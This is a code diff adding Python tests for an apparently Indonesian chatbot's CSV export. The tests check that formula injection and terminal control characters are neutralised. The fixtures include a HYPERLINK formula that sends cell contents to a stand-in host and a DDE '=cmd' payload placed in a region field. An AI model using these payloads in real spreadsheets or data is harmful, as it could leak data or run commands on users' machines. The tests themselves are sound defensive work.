@@ -1,11 +1,13 @@
 import csv
-from datetime import date
+import io
+from datetime import date, datetime, timezone
 
 import yaml
 
 from bot.admin import exports, reports
 from bot.admin.reports import QueryFilter
 from bot.admin.topics import topic_label
+from bot.querylog import QueryLogRow
 from bot.settings import PROJECT_ROOT
 from tests.querylog_rows import SAMPLE, add_rows, open_log
 
@@ -106,3 +108,41 @@ def test_every_intent_has_a_topic_in_plain_indonesian():
     assert topic_label("ask_requirements") == "Syarat jadi PMI"
     assert (topic_label("dont_know"), topic_label("ask_term")) == ("Tidak tahu", "Arti istilah")
     assert topic_label(None) == "(tidak dikenali)"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"klik")',
+    "+62 812 <PHONE>",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(database_url):
+    sessions = open_log(database_url)
+    add_rows(sessions, [dict(text=text, kabupaten="=cmd|'/c calc'!A1") for text in FORMULAS])
+    with sessions() as session:
+        rows = reports.search_queries(session, QueryFilter())
+
+    header, *lines = csv.reader(io.StringIO(exports.queries_csv(rows), newline=""))
+    texts = [line[header.index("text")] for line in lines]
+    assert sorted(texts) == sorted(f"'{text}" for text in FORMULAS)
+    assert {line[header.index("kabupaten")] for line in lines} == {"'=cmd|'/c calc'!A1"}
+    assert [line[header.index("confidence")] for line in lines] == ["0.950"] * len(FORMULAS)
+
+
+def test_csv_cells_lose_control_characters_but_keep_line_breaks():
+    row = QueryLogRow(
+        id=1,
+        created_at=datetime(2026, 11, 27, tzinfo=timezone.utc),
+        message_kind="text",
+        text="\x1b]0;judul\x07tolong\nbantu\x1b[31m",
+        responses=[],
+        fell_back=False,
+        latency_ms=5,
+    )
+
+    header, line = csv.reader(io.StringIO(exports.queries_csv([row]), newline=""))
+    assert line[header.index("text")] == "]0;judultolong\nbantu[31m"
